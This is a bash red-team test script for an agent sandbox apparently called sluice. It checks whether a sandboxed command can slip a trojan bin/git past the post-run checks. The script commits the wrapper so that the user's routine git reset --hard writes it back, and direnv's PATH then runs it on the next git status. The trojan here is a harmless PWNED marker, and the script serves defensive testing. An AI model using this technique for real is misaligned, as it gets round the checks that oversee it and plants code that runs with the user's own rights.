#!/usr/bin/env bash
# red team 46, hole 4: what the checks after a run block (a planted bin/git
# on the user's PATH, a protected file the run created such as .mcp.json)
# is only renamed in the worktree. The command also commits it (or just
# stages it): the user's routine `git reset --hard` (or `git checkout .`,
# `git restore .`, `git stash`), the usual way to discard what an agent
# left, writes it back from HEAD/the index, executable, and the next
# `git status` with direnv's PATH_add bin runs the command's git.
# usage: 46-restored-by-git.sh /path/to/sluice   (as root or a user)
set -u
S=${1:?path to sluice}
base=$(mktemp -d /var/tmp/rt46-restore.XXXXXX) || exit 1
trap 'rm -rf "$base"' EXIT
export HOME=$base/home
mkdir -p "$HOME"
git config --global user.name t; git config --global user.email t@example.invalid
P=$HOME/proj
mkdir -p "$P" && git -C "$P" init -q && echo a >"$P/a" && git -C "$P" add a && git -C "$P" commit -qm a
PATH=$P/bin:$PATH "$S" run -C "$P" -- 'mkdir -p bin && printf "#!/bin/sh\necho PWNED >\$HOME/pwned; exec /usr/bin/git \"\$@\"\n" >bin/git && chmod +x bin/git && PATH=/usr/bin:/bin git add bin/git && PATH=/usr/bin:/bin git commit -qm "add a helper"' | tail -1
echo "== after the run: $(git -C "$P" status --short | tr '\n' ' ')"
echo "== the user discards the agent's leftovers: git reset --hard"
git -C "$P" reset -q --hard
(cd "$P" && PATH=$P/bin:$PATH git status >/dev/null 2>&1)
if [ -e "$HOME/pwned" ]; then echo "HOLE: the user's next git status ran the command's bin/git"; exit 1; fi
echo stopped; exit 0
